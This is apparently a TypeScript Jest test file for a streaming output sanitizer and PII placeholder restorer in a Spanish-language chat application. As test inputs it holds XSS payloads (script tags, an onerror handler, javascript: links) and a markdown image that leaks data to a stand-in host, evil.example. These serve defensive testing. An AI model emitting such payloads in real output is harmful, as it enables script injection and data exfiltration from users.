import { PiiMasker, PiiVault } from '../../privacy/pii-masker';
import { outputSanitizer, sanitizeOutput } from './output-sanitizer';
import { placeholderRestorer } from './placeholder-restorer';
import { chain, StreamTransform } from './stream-transform';

const streamAll = (t: StreamTransform, parts: string[]) =>
  parts.map((p) => t.push(p)).join('') + t.flush();
const splitEvery = (s: string, n: number) => s.match(new RegExp(`[\\s\\S]{1,${n}}`, 'g')) ?? [];

describe('sanitizeOutput', () => {
  it.each([
    ['Hola <b>mundo</b>', 'Hola mundo'],
    ['antes<script>alert(1)</script>después', 'antesdespués'],
    ['<img src=x onerror=alert(1)>texto', 'texto'],
    ['mirá ![gráfico](https://evil.example/leak?d=secreto) acá', 'mirá gráfico acá'],
    ['ver [la fuente](https://evil.example) hoy', 'ver la fuente hoy'],
    ['[click](javascript:alert(1))', 'click'],
    ['<!-- oculto -->visible', 'visible'],
  ])('neutralises %p', (input, expected) => {
    expect(sanitizeOutput(input)).toBe(expected);
  });

  it.each([
    'si el dólar < 1000 y el MERVAL > 2000',
    'Los bonos [AL30, GD30] y la nota [1]',
    '¡Atención! Subió 5%',
  ])('leaves plain text %p alone', (input) => {
    expect(sanitizeOutput(input)).toBe(input);
  });
});

describe('streaming', () => {
  const hostile =
    'Texto <script>robar()</script>y ![img](https://x.example/a.png) y [link](https://y.example) <i>fin</i> [x](javascript:alert(1)).';

  it.each([1, 2, 3, 5, 7, 13])('gives the same result when split every %i characters', (n) => {
    expect(streamAll(outputSanitizer(), splitEvery(hostile, n))).toBe(sanitizeOutput(hostile));
  });

  it('restores placeholders split across deltas, then sanitises', () => {
    const masker = new PiiMasker();
    const vault = new PiiVault();
    masker.mask('mi CUIT 20-05536168-2', vault);
    const t = chain(placeholderRestorer(masker, vault), outputSanitizer());
    expect(streamAll(t, ['Tu CUIT es [CU', 'IT_', '1] <b>ok</b>'])).toBe(
      'Tu CUIT es 20-05536168-2 ok',
    );
  });

  it('does not hold plain text back', () => {
    const t = outputSanitizer();
    expect(t.push('Hola, ')).toBe('Hola, ');
    expect(t.push('¿cómo va?')).toBe('¿cómo va?');
  });
});
